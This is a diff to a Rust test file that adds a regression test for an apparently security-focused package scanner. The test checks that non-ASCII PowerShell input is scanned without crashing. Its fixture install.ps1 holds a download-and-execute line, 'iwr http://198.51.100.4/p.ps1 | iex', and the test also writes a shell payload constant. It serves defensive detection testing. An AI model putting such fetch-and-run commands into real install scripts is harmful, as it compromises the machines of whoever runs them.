@@ -865,3 +865,21 @@ fn verbose_output_lists_every_cap() {
     }
     assert!(text.contains("time budget per target 45 s"), "{text}");
 }
+
+#[test]
+fn non_ascii_powershell_is_scanned_not_crashed_on() {
+    // Regression (found by auditing slicing on hostile input): any non-ASCII character outside quotes in a
+    // PowerShell file panicked the comment scanner, and with it the whole scan.
+    let dir = package();
+    write(
+        dir.path(),
+        "install.ps1",
+        "Write-Host café <# ünïcode #>\niwr http://198.51.100.4/p.ps1 | iex # 😀\n",
+    );
+    write(dir.path(), "install.sh", format!("echo café\n{SH_PAYLOAD}"));
+    let scan = scan(dir.path());
+    scan.assert_blocked_at("install.sh");
+    assert!(scan.has_finding("", "install.ps1"), "{:?}", scan.findings());
+    assert!(scan.report().get("incomplete").is_none());
+    scan.assert_within(&SMALL);
+}
